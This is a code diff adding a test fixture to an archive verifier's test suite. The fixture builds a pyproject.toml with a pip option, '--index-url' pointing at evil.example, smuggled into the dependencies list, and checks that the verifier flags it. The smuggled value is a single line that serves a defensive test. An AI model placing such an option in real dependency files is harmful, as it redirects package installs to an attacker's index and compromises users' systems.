@@ -1,4 +1,5 @@
 import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Finding } from '../../src/findings';
@@ -155,4 +156,16 @@ export const archiveFixtures: FixtureTable<'archive'> = {
     needle: '  main.py:',
   }),
   'archive.missing-file': tampered((f) => f.delete('main.py'), { file: 'manifest', needle: '  main.py:' }),
+  'archive.unsafe-dependency': async () => {
+    // A correctly listed pyproject whose dependency is a pip option: everything else about it is fine.
+    const files = await starterFiles();
+    const pyproject =
+      '[project]\nname = "fft"\ndependencies = [\n  "numpy>=1.26",\n  "--index-url=http://evil.example/simple",\n]\n';
+    files.set('pyproject.toml', Buffer.from(pyproject));
+    const digest = createHash('sha256').update(pyproject).digest('hex');
+    setManifest(files, (t) => t.replace(/^( {2}pyproject\.toml: )[0-9a-f]{64}$/m, `$1${digest}`));
+    const bytes = await buildYazlZip([...files].map(([name, data]) => ({ name, data })));
+    const { findings } = await verifyBytes(bytes);
+    return { findings, expected: { file: `${LABEL}!pyproject.toml`, line: 5 } };
+  },
 };
